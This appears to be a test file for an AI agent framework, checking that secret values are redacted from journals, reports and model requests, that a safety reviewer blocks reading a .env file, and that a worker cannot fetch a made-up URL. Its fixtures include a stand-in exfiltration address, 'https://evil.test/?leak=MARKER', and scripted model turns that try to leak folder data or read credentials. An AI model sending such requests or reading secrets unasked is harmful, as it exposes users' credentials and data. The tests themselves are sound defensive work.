/** No secret and no data of a folder leaves it: by a journal, a report, a tool, an address or an unconfined command. */

import {writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';

import {beforeEach, describe, expect, test} from 'vitest';
import {z} from 'zod';

import {parseConfig} from '../../actors/config/schema.ts';
import {sandboxWarnings} from '../../actors/equipment.ts';
import {createRedactor} from '../../actors/secrets/redact.ts';
import {createSandbox, defineTool} from '../../tools/index.ts';
import type {SandboxMode} from '../../tools/run/sandbox.ts';
import {createAsking, lastText, say, turnOf, use} from '../support/asking.ts';
import {putManyFiles} from '../support/many-files.ts';
import {answer, reply, work} from '../support/scenario.ts';
import {folderWith, follow, journalIn, journalText, setStage} from '../support/stage.ts';

const canary = 'sk-canary-1f0c9a7be24d';
test.each(['SOME_API_KEY', 'AWS_SECRET_ACCESS_KEY', 'HOUSE_PAT', 'DATABASE_URL'])(
  'the value of %s reaches neither the journal, nor a report, nor another model',
  async (name) => {
    const folder = folderWith();
    putManyFiles(folder);
    const {start, requests, runtime} = setStage({
      folder,
      say: (request) =>
        request.purpose === 'explore' ? answer(`the key is ${canary}`) : work(request),
      config: {agent: {review_models: ['policy/safety'], phase_scope: 'plan-only'}},
      journal: journalIn(folder),
      env: {[name]: canary},
    });
    const {events} = await follow(start(`Use ${canary} well`));
    await runtime.close();
    const reports = events.map((event) => JSON.stringify(event));
    const received = requests.map((request) => JSON.stringify(request));
    expect(received.length).toBeGreaterThan(1);
    expect(received.join('\n')).toContain('the key is [redacted]');
    expect(received.join('\n')).not.toContain(canary);
    expect(reports.join('\n')).not.toContain(canary);
    expect(journalText(folder)).toContain('[redacted]');
    expect(journalText(folder)).not.toContain(canary);
  },
);

test('a pattern is applied as it is validated: it matches characters of every script', () => {
  const config = parseConfig({secrets: {patterns: ['\\p{Lu}{2}-\\d+', '[🔑]\\w+']}});
  const {text} = createRedactor(config, {});
  expect(text('ÄÖ-12 and 🔑abc, not ab-3')).toBe('[redacted] and [redacted], not ab-3');
});

let credentialsFolder: string;

describe('a file that may hold credentials', () => {
  beforeEach(() => {
    credentialsFolder = folderWith();
    writeFileSync(join(credentialsFolder, '.env'), 'TOKEN=opensesame\n');
  });

  test('a question cannot read files with credentials that policy/safety refuses', async () => {
    const {ask, requests} = createAsking({
      workspace: credentialsFolder,
      answer: (request) =>
        turnOf(request) === 0 ? use('', ['read_file', {path: '.env'}]) : say(lastText(request)),
    });
    const {result} = await ask('Which settings are there?');

    expect(result.reviews).toMatchObject([{verdict: 'rejected'}]);
    expect(result.denied).toMatchObject([{tool: 'read_file'}]);
    expect(JSON.stringify(requests)).not.toContain('opensesame');
  });

  test('a secret of a known shape in the output of a tool reaches neither model nor journal', async () => {
    const secret = `ghp_${'a1B2'.repeat(9)}`;
    const {ask, requests, runtime} = createAsking({
      answer: (request) =>
        turnOf(request) === 0 ? use('', ['probe', {at: '1'}]) : say('It is deep.'),
      probe: () => ({
        kind: 'succeeded',
        text: `token ${secret}`,
        sources: [{place: 'a', quote: secret}],
      }),
    });
    const {result, events} = await ask();

    expect(JSON.stringify(requests)).toContain('token [redacted]');
    const entries = await runtime.entries(result.interaction);
    expect(JSON.stringify([requests, entries, events, result])).not.toContain(secret);
  });
});

const made = 'https://evil.test/?leak=MARKER';
const named = 'https://docs.test/guide';

/** Runs a plan of one task whose worker calls `visit` once, if it is called at all. */
async function visiting(task: object, url: string) {
  const visited: string[] = [];
  const visit = defineTool({
    name: 'visit',
    description: 'Fetches a page.',
    parameters: z.strictObject({url: z.string()}),
    risk: 'low',
    repeatability: 'repeatable',
    reaches: 'network',
    quotes: true,
    run: async (args) => {
      visited.push(args.url);
      return await Promise.resolve({kind: 'succeeded', text: 'a page'});
    },
  });
  const {run} = setStage({
    files: {'README.md': `# MARKER\nSee ${named} for more.\n`},
    tasks: [{id: 'a', description: 'Look it up', ...task}],
    say: (request) =>
      request.purpose === 'act' && turnOf(request) === 0 ? reply('visit', {url}) : undefined,
    config: {agent: {review_models: ['policy/safety'], max_replans: 0}, quorum: {screen: []}},
    tools: [visit],
  });
  const {tasks = []} = await run('Look it up');
  return {visited, tasks};
}

test.each([
  ['a task with tool and arguments', {tool: 'visit', args: {url: made}}],
  ['the first call of a worker', {}],
])(
  '%s must not use a made-up address, because the content of the folder is in the prompt',
  async (_, task) => {
    const {visited, tasks} = await visiting(task, made);
    expect(visited).toEqual([]);
    expect(JSON.stringify(tasks.map(({evidence}) => evidence))).not.toContain('MARKER');
  },
);

test.each([
  ['a task with tool and arguments', {tool: 'visit', args: {url: named}}],
  ['the first call of a worker', {}],
])('%s may fetch an address from a file of the folder', async (_, task) => {
  const {visited, tasks} = await visiting(task, named);
  expect(visited).toEqual([named]);
  expect(tasks).toMatchObject([{status: 'succeeded'}]);
});

/** Warnings on a machine with nothing that confines. */
async function warningsOf(mode: SandboxMode): Promise<readonly string[]> {
  const sandbox = createSandbox({mode, grades: ['bubblewrap'], candidates: []});
  return await sandboxWarnings(sandbox, tmpdir());
}

test('a warning names a sandbox that does not work, and says that commands run unconfined', async () => {
  expect(await warningsOf('auto')).toEqual([
    'sandbox: bubblewrap (bwrap) is not installed, so approved commands run unconfined; see quorate doctor',
  ]);
});

test('with a required sandbox, the warning says that commands are refused', async () => {
  expect(await warningsOf('required')).toEqual([
    'sandbox: required, but bubblewrap (bwrap) is not installed: commands are refused; see quorate doctor',
  ]);
});

test('a sandbox that is switched off causes no warning', async () => {
  expect(await warningsOf('off')).toEqual([]);
});
